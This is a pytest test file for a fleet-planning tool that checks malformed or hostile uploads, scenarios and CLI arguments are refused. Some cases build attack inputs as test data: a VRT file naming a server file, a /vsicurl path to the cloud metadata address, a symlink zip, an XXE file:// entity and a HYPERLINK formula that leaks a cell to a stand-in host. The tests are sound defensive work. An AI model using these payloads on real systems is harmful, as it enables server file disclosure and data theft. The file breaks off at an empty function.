"""Bad inputs, third round (issue 29): uploads that cannot reach the server's files, limits, nothing ignored.

Each case builds a real bad input (an upload's bytes, a scenario, a dataset folder, a
command line) and asserts that it is refused with :class:`~fleetplan.errors.InputError`
on one line naming the file, row or field and what was expected; CLI cases assert exit 2
and one line on stderr. Outcome tests check what is not a refusal: a secret file's
content never comes back, exports neutralise formula cells, a sweep of bad points fails.
"""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest

from fleetplan.errors import InputError
from fleetplan.network.geojson_table import read_geojson_points
from fleetplan.network.loaders import read_csv_table
from fleetplan.network.schema import TABLES

CLI = [sys.executable, "-c", "from fleetplan.cli import main; main()"]
MB = 1024 * 1024

#: Text that stands for a server file nobody may read through an upload.
SECRET = "s3cret-row-that-must-never-come-back"


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "server_secret.csv"
    path.write_text(f"name,value\n{SECRET},1\n", encoding="utf-8")
    return path


def refused(action: Callable[[], object], *words: str) -> InputError:
    """Run ``action``; it must raise InputError on one line containing every word."""
    with pytest.raises(InputError) as caught:
        action()
    message = str(caught.value)
    assert "\n" not in message, message
    for word in words:
        assert word in message, f"{word!r} not in {message!r}"
    assert SECRET not in message
    return caught.value


def cli(
    *args: str, cwd: Path | None = None, timeout: float = 600
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*CLI, *args], cwd=cwd, capture_output=True, text=True, timeout=timeout, check=False
    )


def assert_bad_input(result: subprocess.CompletedProcess[str], *words: str) -> None:
    """Exit 2, one line on stderr with every word, no traceback."""
    assert result.returncode == 2, (result.returncode, result.stderr[-2000:])
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert "Traceback" not in result.stderr
    for word in words:
        assert word in lines[0], f"{word!r} not in {lines[0]!r}"


# =========================================================================== 1. uploads


def vrt(source: Path) -> bytes:
    """A GDAL VRT that serves ``source`` (a CSV on the server) as a layer."""
    return (
        "<OGRVRTDataSource><OGRVRTLayer name='x'>"
        f"<SrcDataSource>CSV:{source}</SrcDataSource><SrcLayer>{source.stem}</SrcLayer>"
        "</OGRVRTLayer></OGRVRTDataSource>"
    ).encode()


def feature(properties: dict[str, object], geometry: object = None) -> dict[str, object]:
    return {"type": "Feature", "properties": properties, "geometry": geometry}


def collection(*features: dict[str, object], **extra: object) -> bytes:
    return json.dumps({"type": "FeatureCollection", **extra, "features": list(features)}).encode()


POINT = {"type": "Point", "coordinates": [114.17, 22.30]}

#: (id, bytes of the upload named candidate_sites.geojson, words the one-line refusal must hold)
GEOJSON_UPLOADS: list[tuple[str, Callable[[Path], bytes], tuple[str, ...]]] = [
    ("vrt-naming-a-server-csv", vrt, ("not GeoJSON", "XML", "FeatureCollection")),
    (
        "vrt-with-bom-and-blank-lines",
        lambda s: b"\xef\xbb\xbf\n\n  " + vrt(s),
        ("not GeoJSON", "XML"),
    ),
    (
        "vsi-path-as-text",
        lambda s: f"/vsicurl/http://169.254.169.254/latest/{s}".encode(),
        ("not GeoJSON", "FeatureCollection"),
    ),
    ("geopackage-bytes", lambda s: b"SQLite format 3\x00" + bytes(200), ("not GeoJSON",)),
    ("zipped-shapefile", lambda s: _zip_with_symlink(s), ("GeoJSON",)),
    ("json-array", lambda s: b"[1, 2]", ("starting with '['", "FeatureCollection")),
    (
        "a-single-feature",
        lambda s: json.dumps(feature({"a": 1}, POINT)).encode(),
        ("'Feature'", "FeatureCollection"),
    ),
    (
        "no-features-list",
        lambda s: b'{"type": "FeatureCollection", "features": {"a": 1}}',
        ("features",),
    ),
    (
        "crs-hk1980",
        lambda s: collection(
            feature({}, POINT),
            crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::2326"}},
        ),
        ("EPSG::2326", "WGS84", "crs"),
    ),
    (
        "crs-linked-to-a-file",
        lambda s: collection(
            feature({}, POINT),
            crs={"type": "link", "properties": {"href": str(s), "type": "proj4"}},
        ),
        ("WGS84", "crs"),
    ),
    (
        "linestring-geometry",
        lambda s: collection(
            feature({}, {"type": "LineString", "coordinates": [[114, 22], [114.1, 22.1]]})
        ),
        ("row 1", "geometry", "Point"),
    ),
    (
        "nan-coordinate",
        lambda s: (
            b'{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {}, "geometry": {"type": "Point", "coordinates": [NaN, 22.3]}}]}'
        ),
        ("NaN", "not valid JSON"),
    ),
    (
        "bool-coordinate",
        lambda s: collection(feature({}, {"type": "Point", "coordinates": [True, 22.3]})),
        ("row 1", "geometry", "finite numbers"),
    ),
    (
        "one-coordinate",
        lambda s: collection(
            feature({}, POINT), feature({}, {"type": "Point", "coordinates": [114.1]})
        ),
        ("row 2", "geometry"),
    ),
    (
        "nested-property",
        lambda s: collection(feature({"name": {"$ref": str(s)}}, POINT)),
        ("row 1", "name", "nested"),
    ),
    (
        "lon-disagrees-with-geometry",
        lambda s: collection(feature({"lon": 113.0}, POINT)),
        ("row 1", "lon", "differs"),
    ),
    (
        "duplicate-key",
        lambda s: b'{"type": "FeatureCollection", "features": [], "features": [1]}',
        ("'features' appears twice",),
    ),
    (
        "deeply-nested",
        lambda s: (
            b'{"type": "FeatureCollection", "features": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
        ),
        ("nested",),
    ),
    (
        "latin-1",
        lambda s: b'{"type": "FeatureCollection", "name": "caf\xe9", "features": []}',
        ("not UTF-8",),
    ),
]


def _zip_with_symlink(target: Path) -> bytes:
    """A zip whose member is a symbolic link to ``target`` (how a shapefile zip would smuggle a server file)."""
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("sites.shp")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, str(target))
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("case", "make", "words"), GEOJSON_UPLOADS, ids=[c[0] for c in GEOJSON_UPLOADS]
)
def test_geojson_upload_is_parsed_as_json_only(
    case: str, make: Callable[[Path], bytes], words: tuple[str, ...], secret_file: Path
) -> None:
    from fleetplan.views.data_uploads import _geojson_to_csv

    error = refused(lambda: _geojson_to_csv(make(secret_file), "candidate_sites.geojson"), *words)
    assert error.file == "candidate_sites.geojson"


def test_vrt_upload_never_returns_the_server_file(secret_file: Path) -> None:
    """The reported attack: a '.geojson' that is a VRT naming a server CSV gave back that CSV's rows."""
    from fleetplan.views.data_uploads import _geojson_to_csv

    try:
        table = _geojson_to_csv(vrt(secret_file), "nodes.geojson")
    except InputError as error:
        assert SECRET not in str(error)
    else:  # pragma: no cover - the refusal above is the expected outcome
        pytest.fail(f"a VRT upload was read: {table.to_dict()}")


def test_oversized_geojson_is_refused_before_parsing() -> None:
    data = b'{"type": "FeatureCollection", "features": [' + b" " * (3 * MB) + b"]}"
    refused(
        lambda: read_geojson_points(data, name="nodes.geojson", max_bytes=2 * MB), "MB", "limit"
    )


def test_a_good_geojson_upload_becomes_the_csv_table(tmp_path: Path) -> None:
    """Odd but valid: properties in any order, WGS84 named the 2008 way, lon/lat from the geometry."""
    from fleetplan.views.data_uploads import _geojson_to_csv

    features = [
        feature(
            {"status": "estimate", "node_id": "N1", "source": "survey 2024", "name": "Central"},
            {"type": "Point", "coordinates": [114.158, 22.282]},
        ),
        feature(
            {
                "node_id": "N2",
                "name": None,
                "source": "survey 2024",
                "status": "estimate",
                "lat": 22.3,
            },
            {"type": "Point", "coordinates": [114.17, 22.3, 5.0]},
        ),
    ]
    data = collection(
        *features, crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}}
    )
    table = _geojson_to_csv(data, "nodes.geojson")
    path = tmp_path / "nodes.csv"
    table.to_csv(path, index=False)
    nodes = read_csv_table(path, TABLES["nodes"])
    assert list(nodes["node_id"]) == ["N1", "N2"]
    assert nodes["lon"].tolist() == [114.158, 114.17]
    assert nodes["lat"].tolist() == [22.282, 22.3]


def test_osm_upload_with_a_doctype_past_the_first_64_kb_is_refused(
    tmp_path: Path, secret_file: Path
) -> None:
    """An external entity hidden behind 70 KB of comments: refused, the server file never read."""
    from fleetplan.network.importers.osm import import_osm

    padding = "<!-- " + "x" * 70_000 + " -->\n"
    text = (
        f'<?xml version="1.0"?>\n{padding}<!DOCTYPE osm [<!ENTITY secret SYSTEM "file://{secret_file}">]>\n'
        '<osm version="0.6"><node id="1" lat="22.3" lon="114.1"><tag k="name" v="&secret;"/></node>'
        '<node id="2" lat="22.31" lon="114.11"/><way id="9"><nd ref="1"/><nd ref="2"/><tag k="highway" v="primary"/></way></osm>\n'
    )
    path = tmp_path / "upload.osm"
    path.write_text(text, encoding="utf-8")
    refused(lambda: import_osm(path, metric_crs="EPSG:2326"), "DOCTYPE", "upload.osm")


def test_uploaded_scenario_never_opens_the_folder_it_names(tmp_path: Path) -> None:
    """``dataset: /a/server/folder`` in an upload: the app plans with its own data and reads nothing there."""
    from fleetplan.views.scenario_io import scenario_from_text

    folder = tmp_path / "server_folder"
    folder.mkdir()
    # Read, this file would be refused (it is not a catalogue): the upload must load without it.
    (folder / "vehicle_classes.csv").write_text(f"{SECRET}\n1\n", encoding="utf-8")
    scenario = scenario_from_text(f"name: up\ndataset: {folder}\n", "up.yaml")
    assert scenario.name == "up"
    extended = scenario_from_text(f"extends: cheap_hydrogen.yaml\ndataset: {folder}\n", "up.yaml")
    assert extended.dataset is not None


# =========================================================================== 2. size limits


def test_compare_refuses_a_huge_summary_before_reading_it(tmp_path: Path) -> None:
    from fleetplan.optimiser.outputs import MAX_SUMMARY_BYTES

    for name in ("a", "b"):
        (tmp_path / name).mkdir()
    (tmp_path / "a" / "summary.json").write_text("{}", encoding="utf-8")
    with (tmp_path / "b" / "summary.json").open("w", encoding="utf-8") as handle:
        handle.write('{"pad": "')
        handle.write("x" * (MAX_SUMMARY_BYTES + 10))
        handle.write('"}')
    assert_bad_input(cli("compare", "a", "b", cwd=tmp_path), "summary.json", "limit")


def test_city_build_base_tables_are_read_within_the_table_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, tiny_template: Path
) -> None:
    import fleetplan.network.city_build as city_build

    monkeypatch.setattr(city_build, "MAX_TABLE_BYTES", 100)
    refused(lambda: city_build._base_table(tiny_template, "parameters"), "parameters.csv", "limit")


# =========================================================================== 3. time limits


def test_a_deadline_interrupts_python_work_that_would_not_end() -> None:
    """The alarm stops a loop that never checks the clock (a Pyomo build, a path search)."""
    import time

    from fleetplan.optimiser.deadline import Deadline, TimeLimitReached

    deadline = Deadline(0.2, what="station plan", hint="cut the network")
    give_up = time.monotonic() + 120  # only if the alarm never came: the test then fails below
    with pytest.raises(TimeLimitReached) as caught, deadline.watch("finding paths"):
        while time.monotonic() < give_up:
            pass
    assert "no station plan within --time-limit 0.2 s: finding paths took the whole limit" in str(
        caught.value
    )
    assert deadline.remaining() < 0


def test_depot_time_limit_bounds_the_whole_command(tmp_path: Path) -> None:
    """2,000 buses cannot be read, checked, built and solved in 0.5 s: exit 1, one line, the limit named."""
    rows = "\n".join(
        f"B{i},0{5 + i % 3}:{15 * (i % 4):02d},2{i % 4}:{15 * (i % 3):02d},{120 + i % 80}"
        for i in range(2000)
    )
    (tmp_path / "blocks.csv").write_text(f"bus,pull_out,pull_in,km\n{rows}\n", encoding="utf-8")
    result = cli("depot", "--blocks", "blocks.csv", "--time-limit", "0.5", "--json", cwd=tmp_path)
    assert result.returncode == 1, result.stderr[-2000:]
    assert result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "no depot sizing within --time-limit 0.5 s" in lines[0], lines


def test_frlm_time_limit_bounds_the_paths_and_the_build(tmp_path: Path) -> None:
    """A 3,000-node chain with long flows: the path search alone outlasts 0.5 s; exit 1 within the limit's words."""
    nodes = 3000
    (tmp_path / "n.csv").write_text(
        "node\n" + "".join(f"N{i}\n" for i in range(nodes)), encoding="utf-8"
    )
    (tmp_path / "e.csv").write_text(
        "from,to,length\n" + "".join(f"N{i},N{i + 1},1\n" for i in range(nodes - 1)),
        encoding="utf-8",
    )
    flows = "".join(f"N{(7 * k) % nodes},N{(nodes - 1 - 11 * k) % nodes},1\n" for k in range(2000))
    (tmp_path / "f.csv").write_text("origin,destination,flow\n" + flows, encoding="utf-8")
    result = cli("frlm", "--nodes", "n.csv", "--edges", "e.csv", "--flows", "f.csv", "--range", "100", "--stations", "10",
                 "--time-limit", "0.5", "--json", cwd=tmp_path)  # fmt: skip
    assert result.returncode == 1, result.stderr[-2000:]
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "no station plan within --time-limit 0.5 s" in lines[0], lines


def test_frlm_with_time_to_spare_still_solves(tmp_path: Path) -> None:
    """The deadline leaves a small network alone: A-B-C with one flow, one station at B, hand-worked."""
    from fleetplan.network.importers.csv_network import read_frlm_network
    from fleetplan.optimiser.deadline import Deadline
    from fleetplan.optimiser.frlm import HighsOptions, solve_frlm

    (tmp_path / "n.csv").write_text("node\nA\nB\nC\n", encoding="utf-8")
    (tmp_path / "e.csv").write_text("from,to,length\nA,B,40\nB,C,40\n", encoding="utf-8")
    (tmp_path / "f.csv").write_text("origin,destination,flow\nA,C,5\n", encoding="utf-8")
    graph, table = read_frlm_network(tmp_path / "n.csv", tmp_path / "e.csv", tmp_path / "f.csv")
    # Range 100 km: a round trip A-C-A of 160 km needs a station; B (40 km from both ends) covers it alone.
    result = solve_frlm(graph, table, range_km=100, stations=1, options=HighsOptions(time_limit_s=60),
                        deadline=Deadline(600, what="station plan", hint=""))  # fmt: skip
    assert result.status == "optimal"
    assert result.stations == ["B"]
    assert result.flow_refuelled == 5


# =========================================================================== 5. bools are not numbers

BOOL_CASES = [
    ("budget-total", "budget: {total_hkd: true}", "budget.total_hkd", 2),
    ("carbon-price-year", "carbon_price_hkd_per_t: {2030: true}", "carbon_price_hkd_per_t.2030", 2),
    ("payment-level", "payment_levels: [0, true]", "payment_levels.1", 2),
    ("years-step", "years:\n  start: 2025\n  end: 2030\n  step: true", "years.step", 5),
    (
        "parameter-value",
        "parameters:\n  - {parameter: discount_rate, value: false}",
        "parameters.0.value",
        3,
    ),
    (
        "yearly-limit",
        "budget:\n  yearly_limit_hkd: {2025: true}",
        "budget.yearly_limit_hkd.2025",
        3,
    ),
    ("target-min-zev", "targets:\n  ebus_2027: {min_zev: true}", "targets.ebus_2027.min_zev", 3),
    ("solver-threads", "solver: {threads: true}", "solver.threads", 2),
    (
        "price-path",
        "prices:\n  hydrogen_hkd_per_kg: {2025: 100, 2030: false}",
        "prices.hydrogen_hkd_per_kg.2030",
        3,
    ),
]


@pytest.mark.parametrize(
    ("case", "text", "field", "line"), BOOL_CASES, ids=[c[0] for c in BOOL_CASES]
)
def test_true_or_false_where_a_number_is_meant_is_refused(
    case: str, text: str, field: str, line: int, tmp_path: Path
) -> None:
    from fleetplan.optimiser.scenario_files import load_scenario

    path = tmp_path / "s.yaml"
    path.write_text(f"name: s\n{text}\n", encoding="utf-8")
    error = refused(
        lambda: load_scenario(path), "true/false where a number is expected", f"line {line}"
    )
    assert error.field == field


def test_a_bool_in_an_extended_file_names_that_file(tmp_path: Path) -> None:
    from fleetplan.optimiser.scenario_files import load_scenario

    (tmp_path / "base.yaml").write_text("name: base\nbudget:\n  total_hkd: yes\n", encoding="utf-8")
    (tmp_path / "child.yaml").write_text("extends: base.yaml\nname: child\n", encoding="utf-8")
    # YAML 1.2 reads 'yes' as text (refused as not a number); 'true' as a bool (refused as such).
    refused(lambda: load_scenario(tmp_path / "child.yaml"), "base.yaml, line 3")
    (tmp_path / "base.yaml").write_text(
        "name: base\nbudget:\n  total_hkd: true\n", encoding="utf-8"
    )
    refused(lambda: load_scenario(tmp_path / "child.yaml"), "base.yaml, line 3", "true/false")


def test_switches_still_take_true_and_false(tmp_path: Path) -> None:
    from fleetplan.optimiser.scenario_files import load_scenario

    path = tmp_path / "s.yaml"
    path.write_text(
        "name: s\nallow_early_retirement: true\ntargets:\n  ebus_2027: {hard: false, enabled: true}\n",
        encoding="utf-8",
    )
    scenario = load_scenario(path)
    assert scenario.allow_early_retirement is True
    assert scenario.targets["ebus_2027"].hard is False


def test_sweep_param_true_for_a_budget_is_refused(tmp_path: Path) -> None:
    (tmp_path / "s.yaml").write_text("name: s\nyears: {start: 2025, end: 2026}\n", encoding="utf-8")
    result = cli(
        "sweep",
        "s.yaml",
        "--param",
        "budget.total_hkd=true",
        "--out",
        "out",
        "--scheduler",
        "synchronous",
        cwd=tmp_path,
    )
    assert_bad_input(result, "budget.total_hkd", "true/false")
    assert not (tmp_path / "out").exists()


STRICT_NUMBERS = [
    ("underscore", ["frlm", "--range", "1_00"], "--range"),
    ("denormal", ["frlm", "--range", "1e-320"], "--range"),
    ("hex", ["frlm", "--range", "0x10"], "--range"),
    ("fullwidth-count", ["frlm", "--stations", "１"], "--stations"),
    ("infinite-budget", ["sweep", "--budgets", "0,inf"], "--budgets"),
    ("arabic-digits-budget", ["sweep", "--budgets", "٥٠٠"], "--budgets"),
    ("denormal-budget", ["sweep", "--budgets", "1e-320"], "--budgets"),
]


@pytest.mark.parametrize(
    ("case", "args", "flag"), STRICT_NUMBERS, ids=[c[0] for c in STRICT_NUMBERS]
)
def test_command_line_numbers_are_plain_decimals(
    case: str, args: list[str], flag: str, tmp_path: Path
) -> None:
    (tmp_path / "n.csv").write_text("node\nA\nB\n", encoding="utf-8")
    (tmp_path / "e.csv").write_text("from,to,length\nA,B,10\n", encoding="utf-8")
    (tmp_path / "f.csv").write_text("origin,destination,flow\nA,B,5\n", encoding="utf-8")
    (tmp_path / "s.yaml").write_text("name: s\n", encoding="utf-8")
    base = {
        "frlm": [
            "frlm",
            "--nodes",
            "n.csv",
            "--edges",
            "e.csv",
            "--flows",
            "f.csv",
            "--range",
            "100",
            "--stations",
            "1",
        ],
        "sweep": ["sweep", "s.yaml", "--out", "out", "--scheduler", "synchronous"],
    }[args[0]]
    result = cli(*base, *args[1:], cwd=tmp_path)
    assert_bad_input(result, flag)


# =========================================================================== 6. overrides that do nothing


@pytest.fixture(scope="module")
def hk_data() -> object:
    from fleetplan.network.loaders import DEFAULT_DATASET, load_dataset

    return load_dataset(DEFAULT_DATASET)


OVERRIDES = [
    (
        "operator-in-capitals",
        "operator_commitments: {kmb_h2: {operator: KMB, zero_emission_purchases_from: 2030}}",
        "operator_commitments.kmb_h2.operator",
        "did you mean 'kmb'?",
    ),
    (
        "unknown-operator",
        "operator_commitments: {x: {operator: mtr, kind: order, technology: bev, vehicles: 5, year: 2027}}",
        "operator_commitments.x.operator",
        "unknown operator 'mtr'",
    ),
    (
        "switch-off-unknown-commitment",
        "operator_commitments: {kmb_no_diesel_2031: {enabled: false}}",
        "operator_commitments.kmb_no_diesel_2031.enabled",
        "did you mean 'kmb_no_diesel_2030'?",
    ),
    (
        "window-after-it-closes",
        "programmes: {e_bus: {first_year: 2030}}",
        "programmes.e_bus.first_year",
        "expected first_year <= last_year",
    ),
    (
        "window-outside-horizon",
        "years: {start: 2025, end: 2035}\nprogrammes: {e_bus: {first_year: 2040, last_year: 2045}}",
        "programmes.e_bus.first_year",
        "no year in the scenario's horizon 2025-2035",
    ),
    (
        "cap-for-a-type-not-paid",
        "programmes: {e_taxi: {per_vehicle_cap_hkd: {truck: 100000}}}",
        "programmes.e_taxi.per_vehicle_cap_hkd.truck",
        "does not pay for vehicle type 'truck'",
    ),
    (
        "unknown-programme",
        "programmes: {e_buss: {enabled: false}}",
        "programmes.e_buss",
        "did you mean 'e_bus'?",
    ),
    (
        "unknown-target",
        "targets: {ebus_2072: {enabled: false}}",
        "targets.ebus_2072",
        "did you mean 'ebus_2027'?",
    ),
    (
        "extra-target-id-clashes",
        "extra_targets: {ebus_2027: {vehicle_class: bus, year: 2030, min_zev: 10}}",
        "extra_targets.ebus_2027",
        "already a target of targets.csv",
    ),
    (
        "duplicate-parameter-rows",
        "parameters:\n  - {parameter: discount_rate, value: 0.03}\n  - {parameter: discount_rate, value: 0.05}",
        "parameters.1",
        "repeats parameters[0]",
    ),
    (
        "parameter-row-every-lookup-passes",
        "parameters:\n  - {parameter: vehicle_price_hkd, technology: bev, value: 1000000}",
        "parameters.0",
        "would change nothing",
    ),
    (
        "supply-shares-sum-to-1.8",
        "parameters:\n  - {parameter: h2_supply_share, technology: green, value: 0.9}",
        "parameters.0.value",
        "add up to 1.8",
    ),
    (
        "supply-share-without-pathway",
        "parameters:\n  - {parameter: h2_supply_share, value: 0.5}",
        "parameters.0.technology",
        "hydrogen pathway",
    ),
]


@pytest.mark.parametrize(
    ("case", "text", "field", "words"), OVERRIDES, ids=[c[0] for c in OVERRIDES]
)
def test_an_override_that_would_do_nothing_is_refused(
    case: str, text: str, field: str, words: str, tmp_path: Path, hk_data: object
) -> None:
    from fleetplan.optimiser.inputs.scenario_checks import check_scenario_against_dataset
    from fleetplan.optimiser.scenario_files import load_scenario

    path = tmp_path / "s.yaml"
    path.write_text(f"name: s\n{text}\n", encoding="utf-8")
    scenario = load_scenario(path)
    error = refused(lambda: check_scenario_against_dataset(scenario, hk_data), words)  # type: ignore[arg-type]
    assert error.field == field


def test_overrides_that_change_something_pass(tmp_path: Path, hk_data: object) -> None:
    """Every shipped example and the odd-but-valid overrides next to the refused ones."""
    from fleetplan.optimiser.inputs.scenario_checks import check_scenario_against_dataset
    from fleetplan.optimiser.scenario_files import load_scenario
    from fleetplan.views.scenario_io import example_files

    for path in example_files().values():
        check_scenario_against_dataset(load_scenario(path), hk_data)  # type: ignore[arg-type]
    path = tmp_path / "s.yaml"
    path.write_text(
        "name: s\nprogrammes: {e_bus: {first_year: 2026, last_year: 2031, per_vehicle_cap_hkd: {bus_single: 500000}}}\n"
        "operator_commitments: {kmb_no_diesel_2030: {enabled: false}}\n"
        "parameters:\n  - {parameter: vehicle_price_hkd, vehicle_type: taxi, technology: bev, value: 250000}\n"
        "  - {parameter: h2_supply_share, technology: green, value: 0.1}\n"
        "  - {parameter: vehicle_price_hkd, technology: fcev, value: 400000}\n",  # taxis have no fcev row: it serves them
        encoding="utf-8",
    )
    check_scenario_against_dataset(load_scenario(path), hk_data)  # type: ignore[arg-type]


# =========================================================================== 4. sweep exit codes


@pytest.fixture
def short_scenario(tmp_path: Path) -> Path:
    path = tmp_path / "s.yaml"
    path.write_text("name: s\nyears: {start: 2025, end: 2026}\n", encoding="utf-8")
    return path


SWEEP_BAD_POINTS = [
    ("unknown-programme", ["--param", "programme.nope=off"], "programmes.nope"),
    ("unknown-target", ["--param", "target.nope=on,off"], "targets.nope"),
    ("system-folder-as-dataset", ["--param", "dataset=/proc"], "sweep point 0 (dataset=/proc)"),
    (
        "scheduler-not-an-address",
        ["--budgets", "0", "--scheduler", "not a scheduler"],
        "--scheduler",
    ),
]


@pytest.mark.parametrize(
    ("case", "args", "words"), SWEEP_BAD_POINTS, ids=[c[0] for c in SWEEP_BAD_POINTS]
)
def test_sweep_of_bad_points_exits_2_before_any_solve(
    case: str, args: list[str], words: str, short_scenario: Path, tmp_path: Path
) -> None:
    extra = [] if "--scheduler" in args else ["--scheduler", "synchronous"]
    result = cli("sweep", str(short_scenario), *args, *extra, "--out", "out", cwd=tmp_path)
    assert_bad_input(result, words)
    assert not (tmp_path / "out").exists()


def test_sweep_with_no_plan_exits_1_and_keeps_the_previous_results(tmp_path: Path) -> None:
    """Every point infeasible (no operator would switch, yet a hard target of 500 e-buses): exit 1, nothing replaced."""
    from tests.test_faults import write_dataset as write_tiny

    folder = write_tiny(
        tmp_path / "tiny",
        parameters={("adoption_barrier_hkd", "-", "-"): 1e8},
        targets=[
            {
                "target_id": "all_buses_2026",
                "vehicle_class": "bus",
                "year": 2026,
                "min_zev": 500,
                "min_zev_share": None,
                "hard": True,
            }
        ],
    )
    scenario = tmp_path / "s.yaml"
    scenario.write_text(
        f"name: s\ndataset: {folder}\nyears: {{start: 2025, end: 2027}}\n", encoding="utf-8"
    )
    from fleetplan.optimiser.outputs import MARKER

    out = tmp_path / "out"
    out.mkdir()
    (out / MARKER).write_text(
        "", encoding="utf-8"
    )  # an earlier fleetplan output, which may be replaced
    (out / "sweep.csv").write_text("point\n0\n", encoding="utf-8")
    result = cli(
        "sweep",
        str(scenario),
        "--budgets",
        "0,1e6",
        "--scheduler",
        "synchronous",
        "--out",
        str(out),
        cwd=tmp_path,
    )
    assert result.returncode == 1, result.stderr[-2000:]
    assert "no point of the sweep has a plan (2 points: 2 infeasible)" in result.stderr
    assert (out / "sweep.csv").read_text(encoding="utf-8") == "point\n0\n"


# =========================================================================== 7. dataset rows that disagree


def tiny_folder(
    template: Path, tmp_path: Path, file: str, edit: Callable[[pd.DataFrame], pd.DataFrame | None]
) -> Path:
    import shutil

    folder = tmp_path / "tiny"
    shutil.copytree(template, folder)
    frame = pd.read_csv(folder / file, dtype=str, keep_default_na=False)
    edited = edit(frame)
    (frame if edited is None else edited).to_csv(folder / file, index=False)
    return folder


def reversed_edge(frame: pd.DataFrame) -> pd.DataFrame:
    row = frame.iloc[[0]].copy()
    row[["from_node", "to_node"]] = row[["to_node", "from_node"]].to_numpy()
    row["length_m"] = "99999"
    return pd.concat([frame, row], ignore_index=True)


def second_programme_row(column: str, value: str) -> Callable[[pd.DataFrame], pd.DataFrame]:
    def edit(frame: pd.DataFrame) -> pd.DataFrame:
        row = frame.iloc[[0]].copy()
        row["vehicle_type"] = "bus_double"
        row["technology"] = "fcev"
        row[column] = value
        return pd.concat([frame, row], ignore_index=True)

    return edit


def self_flow(frame: pd.DataFrame) -> None:
    frame.loc[0, "destination"] = frame.loc[0, "origin"]


CROSS_ROWS: list[tuple[str, str, Callable[[pd.DataFrame], pd.DataFrame | None], int, str, str]] = [
    ("reversed-edge-99999-m", "edges.csv", reversed_edge, -1, "length_m", "reverse direction"),
    (
        "programme-cap-disagrees",
        "programmes.csv",
        second_programme_row("programme_cap_hkd", "1"),
        -1,
        "programme_cap_hkd",
        "one programme_cap_hkd per programme",
    ),
    (
        "programme-years-disagree",
        "programmes.csv",
        second_programme_row("last_year", "2030"),
        -1,
        "last_year",
        "one last_year per programme",
    ),
    ("truck-flow-to-itself", "truck_flows.csv", self_flow, 1, "destination", "to itself"),
]


@pytest.mark.parametrize(
    ("case", "file", "edit", "row", "field", "words"), CROSS_ROWS, ids=[c[0] for c in CROSS_ROWS]
)
def test_rows_that_disagree_are_refused(
    case: str, file: str, edit: Callable[[pd.DataFrame], pd.DataFrame | None], row: int, field: str, words: str,
    tiny_template: Path, tmp_path: Path,
) -> None:  # fmt: skip
    from fleetplan.network.loaders import load_dataset

    folder = tiny_folder(tiny_template, tmp_path, file, edit)
    rows = len(pd.read_csv(folder / file))
    error = refused(lambda: load_dataset(folder), file, words)
    assert error.field == field
    assert error.row == (rows if row == -1 else row)


@pytest.mark.parametrize("column", ["lat", "length_m"])
def test_a_column_named_twice_in_the_header_is_refused(
    column: str, tmp_path: Path, tiny_template: Path
) -> None:
    table = "nodes" if column == "lat" else "edges"
    path = tmp_path / TABLES[table].file
    lines = (tiny_template / TABLES[table].file).read_text(encoding="utf-8").splitlines()
    lines = [f"{lines[0]},{column}", *(f"{line},1" for line in lines[1:])]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    error = refused(
        lambda: read_csv_table(path, TABLES[table]),
        f"column '{column}' appears twice in the header",
    )
    assert error.field == column


def test_a_reversed_edge_of_the_same_length_is_accepted(
    tiny_template: Path, tmp_path: Path
) -> None:
    from fleetplan.network.loaders import load_dataset

    def same(frame: pd.DataFrame) -> pd.DataFrame:
        row = frame.iloc[[0]].copy()
        row[["from_node", "to_node"]] = row[["to_node", "from_node"]].to_numpy()
        return pd.concat([frame, row], ignore_index=True)

    data = load_dataset(tiny_folder(tiny_template, tmp_path, "edges.csv", same))
    first = data.edges.iloc[0]
    assert data.graph[first["from_node"]][first["to_node"]]["length_m"] == pytest.approx(
        float(first["length_m"])
    )


# =========================================================================== 8. empty scenarios

EMPTY_SCENARIOS = [
    ("comments-only", "# a scenario\n# nothing yet\n"),
    ("document-marker", "---\n"),
    ("tilde", "~\n"),
    ("null", "--- null\n...\n"),
    ("empty-mapping", "{}\n"),
]


@pytest.mark.parametrize(("case", "text"), EMPTY_SCENARIOS, ids=[c[0] for c in EMPTY_SCENARIOS])
def test_a_scenario_with_no_settings_is_refused(case: str, text: str, tmp_path: Path) -> None:
    from fleetplan.optimiser.scenario_files import load_scenario
    from fleetplan.views.scenario_io import scenario_from_text

    path = tmp_path / "s.yaml"
    path.write_text(text, encoding="utf-8")
    refused(lambda: load_scenario(path), "s.yaml", "no settings")
    refused(lambda: scenario_from_text(text, "upload.yaml"), "upload.yaml", "no settings")


def test_cli_refuses_a_scenario_of_only_comments(tmp_path: Path) -> None:
    (tmp_path / "s.yaml").write_text("# TODO\n---\n", encoding="utf-8")
    assert_bad_input(cli("validate", "s.yaml", cwd=tmp_path), "s.yaml", "no settings")


# =========================================================================== 9. formula cells in exports

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def test_calibration_table_writes_observed_text_as_text() -> None:
    from fleetplan.optimiser.calibration import calibration_csv

    table = pd.DataFrame(
        {
            "observation_id": [FORMULA, "ebus_2025"],
            "model": [1.0, 2.0],
            "source": ["@SUM(A1:A9)", "TD 2025"],
            "note": ["-1+2", "-5"],
        }
    )
    written = pd.read_csv(
        __import__("io").StringIO(calibration_csv(table)), dtype=str, keep_default_na=False
    )
    assert written["observation_id"].tolist() == ["'" + FORMULA, "ebus_2025"]
    assert written["source"].tolist() == ["'@SUM(A1:A9)", "TD 2025"]
    assert written["note"].tolist() == ["'-1+2", "-5"]  # a plain negative number stays a number


def test_city_build_writes_feed_names_as_text(tmp_path: Path) -> None:
